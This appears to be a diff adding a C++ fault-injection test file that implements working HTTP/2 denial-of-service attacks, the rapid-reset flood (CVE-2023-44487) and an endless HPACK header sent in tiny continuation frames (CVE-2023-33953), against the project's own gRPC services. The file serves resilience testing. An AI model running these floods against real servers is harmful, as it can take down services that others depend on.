@@ -1,0 +1,106 @@
+#include <chrono>
+#include <cstdint>
+#include <string>
+#include <thread>
+
+#include "tests/faults/attacks/attack.h"
+#include "tests/faults/attacks/raw_socket.h"
+
+namespace tributary::testing {
+namespace {
+
+constexpr char kHeaders = 1, kReset = 3, kSettings = 4, kContinuation = 9, kEndHeaders = 4;
+
+std::string Frame(char type, char flags, std::uint32_t stream, const std::string& payload) {
+  std::string frame;
+  for (const int shift : {16, 8, 0}) frame += static_cast<char>(payload.size() >> shift);
+  frame += type;
+  frame += flags;
+  for (const int shift : {24, 16, 8, 0}) frame += static_cast<char>(stream >> shift);
+  return frame + payload;
+}
+
+std::string Preface() { return std::string("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") + Frame(kSettings, 0, 0, ""); }
+
+// A header that is not indexed.
+std::string Literal(const std::string& name, const std::string& value) {
+  return std::string(1, '\0') + static_cast<char>(name.size()) + name + static_cast<char>(value.size()) +
+         value;
+}
+
+// :method POST, :scheme http.
+std::string CallHeaders(const std::string& path) {
+  return "\x83\x86" + Literal(":path", path) + Literal(":authority", "x") +
+         Literal("content-type", "application/grpc") + Literal("te", "trailers");
+}
+
+// Repeats `speak` on a connection until it fails, and then on a new one.
+template <class Speak>
+void OnConnections(const Target& target, const Speak& speak) {
+  while (!target.over) {
+    RawSocket socket(target.port);
+    if (!socket.open() || !socket.Send(Preface())) {
+      std::this_thread::sleep_for(std::chrono::milliseconds(1));
+      continue;
+    }
+    speak(socket);
+  }
+}
+
+// CVE-2023-44487: streams that are reset as fast as they are opened.
+void ResetStreams(const Target& target, const std::string& path) {
+  OnConnections(target, [&](RawSocket& socket) {
+    const std::string headers = CallHeaders(path);
+    std::uint32_t stream = 1;
+    for (bool open = true; open && !target.over;) {
+      std::string bytes;
+      for (int i = 0; i < 100; ++i, stream += 2) {
+        bytes += Frame(kHeaders, kEndHeaders, stream, headers);
+        bytes += Frame(kReset, 0, stream, std::string("\0\0\0\x08", 4));
+      }
+      open = socket.Send(bytes);
+    }
+  });
+}
+
+// CVE-2023-33953: a header of 100 MB in frames of a few bytes. gRPC 1.51 copies all that has come of the
+// header at each frame.
+void SendEndlessHeader(const Target& target, bool after_a_call) {
+  OnConnections(target, [&](RawSocket& socket) {
+    std::uint32_t stream = 1;
+    if (after_a_call) {
+      if (!socket.Send(Frame(kHeaders, kEndHeaders, stream, CallHeaders("/grpc.health.v1.Health/Check")))) {
+        return;
+      }
+      stream += 2;
+      std::this_thread::sleep_for(std::chrono::milliseconds(5));
+    }
+    // A value of 127 + 100,000,000 bytes, as HPACK's integer.
+    std::string begin = "\x83\x86" + std::string("\0\1x\x7f", 4);
+    std::uint32_t length = 100'000'000;
+    for (; length >= 128; length >>= 7) begin += static_cast<char>(0x80 | (length & 0x7f));
+    begin += static_cast<char>(length);
+    if (!socket.Send(Frame(kHeaders, 0, stream, begin))) return;
+    std::string bytes;
+    for (int i = 0; i < 200; ++i) bytes += Frame(kContinuation, 0, stream, std::string(16, 'a'));
+    while (!target.over && socket.Send(bytes)) {
+    }
+  });
+}
+
+constexpr Attack kAttacks[] = {
+    {"reset_participate",
+     [](const Target& target) { ResetStreams(target, "/tributary.v1.FederationService/Participate"); }},
+    {"reset_report",
+     [](const Target& target) { ResetStreams(target, "/tributary.v1.FusionService/Report"); }},
+    {"reset_list_nodes",
+     [](const Target& target) { ResetStreams(target, "/tributary.v1.FleetService/ListNodes"); }},
+    {"quadratic_headers", [](const Target& target) { SendEndlessHeader(target, false); }},
+    {"quadratic_headers_after_a_call", [](const Target& target) { SendEndlessHeader(target, true); }},
+};
+
+}  // namespace
+
+std::span<const Attack> FrameAttacks() { return kAttacks; }
+
+}  // namespace tributary::testing
